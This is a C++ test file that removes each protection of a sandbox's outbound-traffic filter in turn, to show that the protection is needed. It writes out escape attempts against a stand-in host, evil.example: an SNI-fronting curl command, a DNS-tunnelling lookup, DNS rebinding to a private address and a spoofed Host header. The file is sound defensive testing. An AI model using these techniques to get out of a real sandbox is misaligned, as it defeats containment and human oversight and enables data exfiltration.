// Each wall around what leaves a box is taken away in turn, to see that it was needed.
#include <gmock/gmock.h>

#include "support/gate_lab_egress.h"
#include "support/gate_without_wall.h"

namespace hako::test {
namespace {

using ::testing::HasSubstr;
using ::testing::StartsWith;

/// What gets through of that which must not.
struct Breaks {
  bool by_sni = false, by_dns = false, to_private = false, by_host = false;
  bool operator==(const Breaks&) const = default;
};

class EgressWallsTest : public WithoutWall<EgressTest, Breaks> {
 protected:
  Task<void> try_everything(Breaks& breaks) override {
    auto policy = allow("web.example rebound.example 10.1.2.3");
    co_await set_policy(policy);
    world_->names["rebound.example"] = {World::kPrivate};
    std::string address = co_await lookup("web.example");
    auto fronted = co_await run_in_guest(
        "curl -sk --max-time 5 --noproxy '*' --resolve evil.example:443:" + address +
        " https://evil.example/");
    breaks.by_sni = fronted.output.starts_with("web evil.example");
    auto tunnel = co_await ask_dns("carried-out.evil.example");
    breaks.by_dns = tunnel.rcode == 0;
    auto rebound = co_await talk_to("rebound.example", World::kDigest, "1\n");
    auto direct = co_await talk(World::kPrivate, World::kDigest, "1\n");
    breaks.to_private = rebound == "<open>" && direct == "<open>";
    auto hosted = co_await talk(
        address, World::kHttp, "GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
    breaks.by_host = hosted.find("web evil.example") != hosted.npos;
  }
};

TEST_F(EgressWallsTest, nothing_breaks_with_all_of_them) {
  EXPECT_EQ(without("none"), Breaks());
}

TEST_F(EgressWallsTest, without_the_look_at_sni) {
  EXPECT_EQ(without("sni"), (Breaks{.by_sni = true}));
}

TEST_F(EgressWallsTest, without_the_look_at_names) {
  EXPECT_EQ(without("dns_names"), (Breaks{.by_dns = true}));
}

TEST_F(EgressWallsTest, without_the_look_at_addresses) {
  EXPECT_EQ(without("private_ranges"), (Breaks{.to_private = true}));
}

TEST_F(EgressWallsTest, without_the_look_at_host) {
  EXPECT_EQ(without("host_header"), (Breaks{.by_host = true}));
}

}  // namespace
}  // namespace hako::test
